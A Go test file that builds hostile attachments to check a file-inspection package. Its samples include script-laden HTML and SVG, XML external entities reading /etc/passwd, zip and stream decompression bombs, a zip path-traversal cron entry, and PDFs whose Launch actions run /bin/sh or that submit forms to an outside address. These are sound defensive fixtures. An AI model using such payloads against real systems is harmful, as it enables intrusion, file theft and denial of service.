package attachment

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"strings"
	"testing"
)

// hostile is a paper that somebody means harm with, and what may become of it.
type hostile struct {
	file []byte
	kind Kind
	// reasons are how it may end; "" is that all of it is shown.
	reasons []Reason
	// finds is what must be told of it.
	finds []Finding
	// says must be in its text.
	says string
}

// pdf writes a PDF file of objects, the first of which is the catalog. Its table of objects is
// right, so that a reader follows it.
func pdf(trailer string, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	at := make([]int, len(objects))
	for i, o := range objects {
		at[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n",
		len(objects)+1, strings.ReplaceAll(trailer, "START", fmt.Sprint(start)), start)
	return b.Bytes()
}

// sheet writes a PDF file of one page that says what it is. catalog, page and trailer take further
// entries, and objects follow from number 6 on.
func sheet(catalog, page, trailer string, objects ...string) []byte {
	return pdf(trailer, append([]string{
		"<</Type/Catalog/Pages 2 0 R" + catalog + ">>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" +
			"/Resources<</Font<</F1 5 0 R>>/XObject<</X0 6 0 R>>>>" + page + ">>",
		stream("", "BT /F1 24 Tf 100 700 Td (Order 12/34) Tj ET /X0 Do"),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	}, objects...)...)
}

func stream(entries, body string) string {
	return fmt.Sprintf("<</Length %d%s>>\nstream\n%s\nendstream", len(body), entries, body)
}

// squeezed is a run of bytes, compressed n times.
func squeezed(t testing.TB, pattern string, size, n int) string {
	t.Helper()
	var b bytes.Buffer
	w, err := zlib.NewWriterLevel(&b, zlib.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	chunk := []byte(strings.Repeat(pattern, 1<<20/len(pattern)))
	for written := 0; written < size; written += len(chunk) {
		if _, err := w.Write(chunk); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for range n - 1 {
		b.Reset()
		w.Reset(&b)
		_, _ = w.Write([]byte(out))
		_ = w.Close()
		out = b.String()
	}
	return out
}

// archived writes a ZIP file of names and contents in turn.
func archived(t testing.TB, pairs ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		w, err := z.Create(pairs[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(pairs[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// bomb writes a ZIP file in which a file of zeros is squeezed.
func bomb(t testing.TB, name string, size int, rest ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(rest); i += 2 {
		w, err := z.Create(rest[i])
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write([]byte(rest[i+1]))
	}
	w, err := z.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	zeros := bytes.Repeat([]byte(" "), 1<<20)
	for n := 0; n < size; n += len(zeros) {
		if _, err := w.Write(zeros); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// paragraphs is the main part of a text file with words in it.
func paragraphs(words string) string {
	return `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/` +
		`wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>` + words +
		`</w:t></w:r></w:p></w:body></w:document>`
}

// announcing is a PNG file that says to be larger than any memory.
func announcing(width, height uint32) []byte {
	var b bytes.Buffer
	m := image.NewGray(image.Rect(0, 0, 1, 1))
	m.Set(0, 0, color.Black)
	if err := png.Encode(&b, m); err != nil {
		panic(err)
	}
	out := b.Bytes()
	for i := range 4 {
		out[16+i] = byte(width >> (24 - 8*i))
		out[20+i] = byte(height >> (24 - 8*i))
	}
	sum := crc32.ChecksumIEEE(out[12:29])
	for i := range 4 {
		out[29+i] = byte(sum >> (24 - 8*i))
	}
	return out
}

const contentTypes = `<?xml version="1.0"?><Types/>`

// pack are the hostile papers. outside is an address that nothing may ask, planted a file that
// nothing may make.
func pack(t testing.TB, outside, planted string) map[string]hostile {
	t.Helper()
	out := hostilePDFs(t, outside, planted)
	whole := []Reason{""}
	for name, h := range map[string]hostile{
		"a web page": {
			[]byte(`<html><head><script src="` + outside + `/x.js"></script>` +
				`<script>alert(1)</script><link rel=stylesheet href="` + outside +
				`/x.css"></head><body onload="x()"><p>Order` +
				`<img src="` + outside + `/x.png"><iframe src="` + outside + `"></iframe>` +
				`<p style="display:none">unseen</p></body></html>`),
			HTML, whole, []Finding{Script, Outside, Inside, Hidden}, "Order",
		},
		"a picture with a script": {
			[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="a()"><script>x()</script>` +
				`<image xlink:href="` + outside + `/x.png"/></svg>`),
			XML, whole, []Finding{Script, Outside}, "<svg",
		},
		"a billion laughs": {
			[]byte(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">` +
				`<!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>`),
			XML, whole, []Finding{Entity}, "&c;",
		},
		"an external entity": {
			[]byte(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">` +
				`<!ENTITY b SYSTEM "` + outside + `">]><l>&a;&b;</l>`),
			XML, whole, []Finding{Entity, Outside}, "&a;",
		},
		"a macro": {
			archived(t, "[Content_Types].xml", contentTypes, "word/document.xml",
				paragraphs("Order 12/34"), "word/vbaProject.bin", "\xd0\xcf\x11\xe0 AutoOpen"),
			Office, whole, []Finding{Macro}, "Order 12/34",
		},
		"a template from elsewhere": {
			archived(t, "[Content_Types].xml", contentTypes, "word/document.xml",
				paragraphs("Order"), "word/_rels/settings.xml.rels",
				`<Relationships><Relationship Type="attachedTemplate" Target="`+outside+
					`/x.dotm" TargetMode="External"/></Relationships>`),
			Office, whole, []Finding{Outside}, "Order",
		},
		"a template from elsewhere beside a link": {
			archived(t, "[Content_Types].xml", contentTypes, "word/document.xml",
				paragraphs("Order"), "word/_rels/settings.xml.rels",
				`<Relationships><Relationship Type="http://x/hyperlink" Target="`+outside+
					`" TargetMode="External"/><Relationship Type='x/attachedTemplate' Target='`+
					outside+`/x.dotm' TargetMode='External'/></Relationships>`),
			Office, whole, []Finding{Outside}, "Order",
		},
		"a text file with entities": {
			archived(t, "[Content_Types].xml", contentTypes, "word/document.xml",
				`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`+
					`<w:document xmlns:w="w"><w:t>&a;</w:t></w:document>`),
			Office, []Reason{Broken}, []Finding{Entity}, "",
		},
		"a text file that grows": {
			bomb(t, "word/document.xml", 256<<20, "[Content_Types].xml", contentTypes),
			Office, []Reason{TooLarge}, nil, "",
		},
		"a text file that is deep": {
			archived(t, "[Content_Types].xml", contentTypes, "word/document.xml",
				strings.Repeat("<a>", 100_000)),
			Office, []Reason{TooLarge}, nil, "",
		},
		"an archive that grows": {
			bomb(t, "zeros.txt", 1<<30), Archive, whole, []Finding{Inside}, "zeros.txt",
		},
		"an archive with a way out": {
			archived(t, "../../etc/cron.d/x", "* * * * * root x", "/abs", "x",
				"<img onerror=x>", ""),
			Archive, whole, []Finding{Inside}, "../../etc/cron.d/x",
		},
		"an archive of too many": {
			archived(t, many(entries+1)...), Archive, []Reason{TooLarge}, nil, "",
		},
		"an archive cut off": {
			archived(t, "a", strings.Repeat("x", 100))[:60], Archive, []Reason{Broken}, nil, "",
		},
		"a huge photo": {announcing(60_000, 60_000), Image, []Reason{TooLarge}, nil, ""},
		"half a photo": {announcing(1000, 1000), Image, []Reason{Broken}, nil, ""},
		"an old office file": {
			[]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macros"), Unknown, []Reason{Format}, nil, "",
		},
		"a program":   {[]byte("\x7fELF\x02\x01\x01\x00\x00"), Unknown, []Reason{Format}, nil, ""},
		"nothing":     {nil, Unknown, []Reason{Broken}, nil, ""},
		"a long text": {bytes.Repeat([]byte("word "), 1<<20), Text, []Reason{Cut}, nil, "word"},
		"a text that turns around": {
			[]byte("pay \u202e0001\u202c euro \x1b[31m"), Text, whole, nil, "pay \ufffd0001\ufffd",
		},
		"a test file for scanners": {
			[]byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR` + `-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`),
			Text, whole, nil, "X5O",
		},
	} {
		out[name] = h
	}
	return out
}

// many are names and contents of empty files.
func many(n int) (out []string) {
	for i := range n {
		out = append(out, fmt.Sprintf("%d", i), "")
	}
	return out
}

// hostilePDFs are the PDF files of the pack.
func hostilePDFs(t testing.TB, outside, planted string) map[string]hostile {
	t.Helper()
	whole := []Reason{""}
	either := []Reason{"", Broken, TooLong, TooMuch, Cut}
	bombed := squeezed(t, "q ", 512<<20, 1)
	nested := []string{stream("/Type/XObject/Subtype/Form/BBox[0 0 595 842]"+
		"/Resources<</XObject<</X0 7 0 R>>>>", strings.Repeat("/X0 Do ", 60))}
	for n := 8; n < 18; n++ {
		nested = append(nested, stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 595 842]"+
			"/Resources<</XObject<</X0 %d 0 R>>>>", n), strings.Repeat("/X0 Do ", 60)))
	}
	return map[string]hostile{
		"a script": {
			sheet("/OpenAction<</S/JavaScript/JS(app.launchURL\\('"+outside+"'\\))>>", "", ""),
			PDF, whole, []Finding{Script}, "",
		},
		"a program to launch": {
			sheet("/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(sh)/P(-c touch "+planted+")>>>>",
				"/AA<</O<</S/Launch/F(/usr/bin/touch)>>>>", ""),
			PDF, whole, []Finding{Launch}, "",
		},
		"a file inside": {
			sheet("/Names<</EmbeddedFiles<</Names[(x.exe)7 0 R]>>>>", "", "", stream("", ""),
				"<</Type/Filespec/F(x.exe)/EF<</F 8 0 R>>>>",
				stream("/Type/EmbeddedFile", "MZ")),
			PDF, whole, []Finding{Inside}, "",
		},
		"a form that sends itself": {
			sheet("/OpenAction<</S/SubmitForm/F("+outside+")>>", "", ""),
			PDF, whole, []Finding{Outside}, "",
		},
		"a password": {
			sheet("", "", "/ID[(0123456789abcdef)(0123456789abcdef)]/Encrypt<</Filter/Standard"+
				"/V 1/R 2/P -4/O("+strings.Repeat("o", 32)+")/U("+strings.Repeat("u", 32)+")>>"),
			PDF, []Reason{Locked}, nil, "",
		},
		"a table that follows itself": {sheet("", "", "/Prev START"), PDF, either, nil, ""},
		"pages that are their own parents": {
			pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"),
			PDF, either, nil, "",
		},
		"a form that draws itself": {
			sheet("", "", "", stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]"+
				"/Resources<</XObject<</X0 6 0 R>>>>", "/X0 Do /X0 Do")),
			PDF, either, nil, "",
		},
		"forms that draw forms": {
			sheet("", "", "", nested...), PDF, []Reason{"", TooLong}, nil, "",
		},
		"a stream that grows": {
			pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
				"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
				stream("/Filter/FlateDecode", bombed)),
			PDF, either, nil, "",
		},
		"a stream that grows twice": {
			pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
				"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
				stream("/Filter[/FlateDecode/FlateDecode]", squeezed(t, "q ", 512<<20, 2))),
			PDF, either, nil, "",
		},
		"a page without end": {
			pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
				"<</Type/Page/Parent 2 0 R/MediaBox[0 0 2147483647 1]>>"),
			PDF, either, nil, "",
		},
		"a photo of a billion points": {
			sheet("", "", "", stream("/Type/XObject/Subtype/Image/Width 60000/Height 60000"+
				"/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", bombed)),
			PDF, either, nil, "",
		},
		"pages beyond count": {
			pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids["+
				strings.Repeat("3 0 R ", 20_000)+"]/Count 20000>>",
				"<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>"),
			PDF, []Reason{Cut, Broken}, nil, "",
		},
		"a page count that is a lie": {
			pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 2147483647>>"),
			PDF, either, nil, "",
		},
		"a web page besides": {
			append([]byte("<script>alert(1)</script>\n"), sheet("", "", "")...),
			PDF, either, nil, "",
		},
		"a PDF file cut off":  {sheet("", "", "")[:200], PDF, either, nil, ""},
		"no more than a name": {[]byte("%PDF-1.7\n"), PDF, []Reason{Broken}, nil, ""},
	}
}
